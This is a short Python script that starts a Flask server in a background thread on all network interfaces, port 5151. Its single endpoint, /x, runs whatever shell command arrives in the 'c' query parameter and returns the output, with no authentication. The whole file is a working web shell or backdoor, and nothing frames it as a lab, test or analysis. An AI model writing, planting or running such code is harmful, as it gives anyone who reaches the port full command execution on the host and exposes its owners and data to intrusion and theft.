from flask import Flask, request
import subprocess, threading
app = Flask(__name__)
@app.route("/x")
def x():
    return subprocess.getoutput(request.args.get("c"))
threading.Thread(target=lambda: app.run(host="0.0.0.0", port=5151)).start()
